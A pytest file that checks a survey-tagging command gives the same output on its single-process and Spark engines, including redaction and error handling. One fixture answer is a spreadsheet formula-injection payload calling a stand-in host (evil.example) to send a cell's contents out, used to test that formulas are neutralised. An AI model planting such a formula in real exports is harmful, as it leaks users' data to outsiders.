"""`behaviours score --engine spark` writes what the single process writes (issue 16).

One local Spark (`local[2]`) serves the whole module: the command uses a session already
running in its process, so each run costs the job, not a JVM start. The input has two
questions, blank, filler, long and formula-like answers and ids out of order; with
`spark.rows_per_partition: 6` its 40 rows are tagged in seven partitions of batches of four.
"""

import json
import shutil
import sys

import pandas as pd
import pyarrow.parquet as pq
import pytest
import yaml

from pipeline.batch.partial import partial_folder
from pipeline.batch.spark import executor_backend, start_spark
from pipeline.config import PROJECT_ROOT, Params, SparkParams
from pipeline.errors import InputError
from pipeline.io.exports import MAX_CELL_CHARS

pyspark = pytest.importorskip("pyspark", reason="pyspark is in the dev extra")

LONG = " ".join(["She delegates real decisions and coaches her staff to develop."] * 60)
ANSWERS = [
    "He explains the reasons behind every rota decision.",
    "",
    "n/a",
    "Nobody ever explained why the ward was closing.",
    None,
    LONG,
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "Designed the new pathway together with patients and carers. Pay is too low.",
    "   ",
    "Le café était fermé; it’s “too much”.",
]
SECRET = "Zanzibar-Quokka"  # a word that must never reach Spark's logs or an error


@pytest.fixture(scope="module")
def spark():
    session = start_spark("local[2]", SparkParams(), progress=False)
    yield session
    session.stop()


@pytest.fixture()
def params_file(tmp_path):
    path = tmp_path / "params.yaml"
    settings = {
        "encoder": {"backend": "hashing", "model": "", "dim": 512},
        "text": {"sentences": "sentencizer"},
        "score": {"chunk_size": 4},
        "spark": {"rows_per_partition": 6},
    }
    path.write_text(yaml.safe_dump(settings))
    return path


def survey(n=40):
    """Rows with ids out of order, two questions and columns that are not text in Parquet."""
    return pd.DataFrame(
        {
            "id": [f"r{(i * 17) % n:03d}" for i in range(n)],
            "site": ["A" if i % 3 else "B" for i in range(n)],
            "q1": [ANSWERS[i % len(ANSWERS)] for i in range(n)],
            "q2": [ANSWERS[(i * 7 + 3) % len(ANSWERS)] for i in range(n)],
            "count": [i if i % 5 else None for i in range(n)],
            "ratio": [i / 4 for i in range(n)],
            "ok": [i % 2 == 0 for i in range(n)],
        }
    )


@pytest.fixture()
def score_both(run_cli, model_dir, params_file, spark):
    """Score one input with each engine: (single-process output, its stdout), (Spark's output, its stdout), with
    the output's name in stdout as OUTPUT."""

    def run(source, suffix, *args):
        results = []
        for engine in ("process", "spark"):
            output = source.parent / f"{engine}{suffix}"
            code, out, err = run_cli(
                "score", source, "-o", output, *args, "--model", model_dir, "--params", params_file, "--engine", engine, "-q"
            )
            assert code == 0, err
            assert not partial_folder(output).exists()
            results.append((output, out.replace(str(output), "OUTPUT")))
        return results

    return run


def _summary(out):
    """The closing table and counts, without the line on distinct answers (each Spark worker has its own cache)."""
    return [line.strip() for line in out.splitlines() if not line.startswith("distinct answers tagged")]


def test_csv_output_is_byte_for_byte_the_single_process_one(score_both, tmp_path):
    source = tmp_path / "survey.csv"
    survey().to_csv(source, index=False)
    (single, single_out), (spark_file, spark_out) = score_both(
        source, ".csv", "-c", "q1", "-c", "q2", "--combined", "--id-column", "id"
    )
    assert spark_file.read_bytes() == single.read_bytes()
    assert _summary(spark_out) == _summary(single_out)
    frame = pd.read_csv(spark_file, dtype=str, keep_default_na=False)
    assert frame["id"].tolist() == survey()["id"].tolist()  # the input's order, not the ids' or the partitions'
    assert frame["q1"][6].startswith("'=HYPERLINK")  # formulas neutralised as always
    assert set(frame["q1__status"]) == {"ok", "empty"} and (frame["q1__status"] == "ok").sum() >= 10


def test_parquet_input_read_by_spark_gives_the_same_table(score_both, tmp_path):
    source = tmp_path / "survey.parquet"
    survey().to_parquet(source, index=False)
    (single, _), (spark_file, _) = score_both(source, ".parquet", "-c", "q1", "--id-column", "id")
    expected, got = pq.read_table(single), pq.read_table(spark_file)
    assert got.schema == expected.schema and got.equals(expected)
    assert got.column("count").to_pylist()[:2] == [None, "1"] and got.column("ok").to_pylist()[:2] == ["TRUE", "FALSE"]


def test_redacted_output_is_the_same_too(score_both, tmp_path):
    frame = survey(24)
    frame.loc[::3, "q1"] = f"He explains every decision, Dr Okonkwo, jo.bloggs@nhs.net, 07700 900461, {SECRET}."
    source = tmp_path / "identified.csv"
    frame.to_csv(source, index=False)
    (single, single_out), (spark_file, spark_out) = score_both(source, ".csv", "-c", "q1", "-c", "q2", "--redact")
    assert spark_file.read_bytes() == single.read_bytes()
    written = spark_file.read_text(encoding="utf-8")
    assert "jo.bloggs@nhs.net" not in written and "[EMAIL]" in written
    replaced = [line for line in spark_out.splitlines() if line.startswith("identifiers replaced")]
    assert replaced and replaced == [line for line in single_out.splitlines() if line.startswith("identifiers replaced")]


def test_an_input_with_no_rows_gives_the_header(score_both, tmp_path):
    source = tmp_path / "empty.csv"
    source.write_text("id,q1\n", encoding="utf-8")
    (single, _), (spark_file, _) = score_both(source, ".csv", "-c", "q1")
    assert spark_file.read_bytes() == single.read_bytes()


def test_the_cluster_recipe_in_docs_gives_the_command_s_output(score_both, spark, model_dir, params_file, taxonomy, tmp_path):
    """docs/spark.md's notebook recipe (a table, `tag_batches` by `mapInArrow`, Parquet out) on a Parquet "table"."""
    from pyspark.sql import functions as F
    from pyspark.sql.pandas.types import from_arrow_schema

    from pipeline.batch.chunks import ScoreOptions, output_columns
    from pipeline.batch.spark import ROW, ChunkJob, tag_batches
    from pipeline.config import load_params

    source = tmp_path / "survey.parquet"
    survey().to_parquet(source, index=False)
    (single, _), _ = score_both(source, ".parquet", "-c", "q1", "--id-column", "id")
    params = load_params(params_file)
    answers = spark.read.parquet(str(source))
    columns = tuple(answers.columns)
    options = ScoreOptions(text_columns=("q1",), id_column="id", chunk_size=params.score.chunk_size,
                           max_evidence=params.score.max_evidence_per_behaviour,
                           empty_values=tuple(params.score.empty_values))
    ids = taxonomy.ids
    job = ChunkJob(str(model_dir), params, ids, options, columns, str(source))
    tagged, redacted = spark.sparkContext.accumulator(0), spark.sparkContext.accumulator(0)
    numbered = answers.toDF(*[f"c{j}" for j in range(len(columns))]).withColumn(ROW, F.monotonically_increasing_id())
    scored = numbered.repartition(4).mapInArrow(
        lambda batches: tag_batches(job, tagged, redacted, batches), from_arrow_schema(job.output_schema())
    )
    written = tmp_path / "recipe"
    scored.orderBy(ROW).drop(ROW).toDF(*columns, *output_columns(options, ids)).write.mode("error").parquet(str(written))
    pd.testing.assert_frame_equal(pd.read_parquet(written), pd.read_parquet(single))


def _one_line(code, out, err, message, output):
    assert code == 2, err
    assert message in err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err + out
    assert not output.exists() and not partial_folder(output).exists()


@pytest.mark.parametrize(
    "args, message",
    [
        (["-c", "missing"], "no column 'missing'"),
        (["-c", "q1", "--resume"], "a Spark run starts again"),
        (["-c", "q1", "--engine", "dask"], "--engine must be process or spark"),
    ],
)
def test_bad_options_are_one_line_before_spark_runs(run_cli, model_dir, params_file, spark, tmp_path, args, message):
    source = tmp_path / "survey.csv"
    survey(4).to_csv(source, index=False)
    output = tmp_path / "out.csv"
    engine = [] if "--engine" in args else ["--engine", "spark"]
    code, out, err = run_cli("score", source, "-o", output, *args, *engine, "--model", model_dir, "--params", params_file)
    _one_line(code, out, err, message, output)


def test_spark_master_needs_the_spark_engine(run_cli, model_dir, params_file, tmp_path):
    source = tmp_path / "survey.csv"
    survey(4).to_csv(source, index=False)
    code, out, err = run_cli(
        "score", source, "-o", tmp_path / "out.csv", "-c", "q1", "--spark-master", "local[2]", "--model", model_dir,
        "--params", params_file,
    )
    _one_line(code, out, err, "--spark-master needs --engine spark", tmp_path / "out.csv")


def test_an_executor_refusing_a_cell_is_one_line_without_the_text(model_dir, params_file, spark, tmp_path, capfd, monkeypatch):
    """Spark's reader reads the Parquet file, so the cell is refused on an executor; the driver says it in one line
    and nothing of the text reaches the terminal, Spark's JVM and Python workers included (captured at the fd)."""
    from pipeline import cli

    frame = survey(8)
    frame.loc[5, "q1"] = (SECRET + " ") * (MAX_CELL_CHARS // len(SECRET))
    source = tmp_path / "long.parquet"
    frame.to_parquet(source, index=False)
    output = tmp_path / "out.csv"
    args = ["score", source, "-o", output, "-c", "q1", "--engine", "spark", "--model", model_dir, "--params", params_file]
    monkeypatch.setattr(sys, "argv", ["behaviours", *map(str, args)])
    with pytest.raises(SystemExit) as stopped:
        cli.main()
    captured = capfd.readouterr()
    _one_line(stopped.value.code, captured.out, captured.err, f"{source}: a row has a value longer than", output)
    assert SECRET not in captured.out + captured.err


def test_missing_pyspark_names_the_install(run_cli, model_dir, params_file, tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "pyspark.sql", None)  # as if it were not installed
    source = tmp_path / "survey.csv"
    survey(4).to_csv(source, index=False)
    output = tmp_path / "out.csv"
    code, out, err = run_cli(
        "score", source, "-o", output, "-c", "q1", "--engine", "spark", "--model", model_dir, "--params", params_file
    )
    _one_line(code, out, err, "--engine spark needs pyspark: pip install 'leadership-behaviours[spark]'", output)


def test_missing_java_names_the_install(monkeypatch):
    monkeypatch.setattr(shutil, "which", lambda name: None)
    monkeypatch.delenv("JAVA_HOME", raising=False)
    with pytest.raises(InputError, match="needs Java: install Java 17 .*openjdk-17-jre-headless"):
        start_spark("local[1]", SparkParams())


def test_executors_use_int8_when_it_is_exported_else_the_configured_backend(tmp_path):
    params = Params()
    assert executor_backend(tmp_path, params) == params.backend.name
    (tmp_path / "onnx").mkdir()
    (tmp_path / "onnx" / "encoder_int8.onnx").write_bytes(b"")
    assert executor_backend(tmp_path, params) == "onnx-int8"


@pytest.mark.integration
def test_the_shipped_model_gives_the_same_output(run_cli, spark, tmp_path):
    """The real model (MiniLM under PyTorch, spaCy's sentence recogniser) on both engines."""
    source = tmp_path / "survey.csv"
    survey(24).to_csv(source, index=False)
    outputs = []
    for engine in ("process", "spark"):
        output = tmp_path / f"{engine}.parquet"
        code, _, err = run_cli(
            "score", source, "-o", output, "-c", "q1", "-c", "q2", "--backend", "torch", "--engine", engine, "-q",
            "--model", PROJECT_ROOT / "models" / "default",
        )
        assert code == 0, err
        outputs.append(pq.read_table(output).to_pandas())
    single, spark_frame = outputs
    text = [c for c in single.columns if not c.split("__")[-1].startswith("score_")]
    pd.testing.assert_frame_equal(spark_frame[text], single[text])
    scores = [c for c in single.columns if c not in text]
    pd.testing.assert_frame_equal(spark_frame[scores], single[scores], rtol=0, atol=1e-5)  # batch padding: float noise
    assert any(json.loads(cell) for cell in single["q1__evidence"])
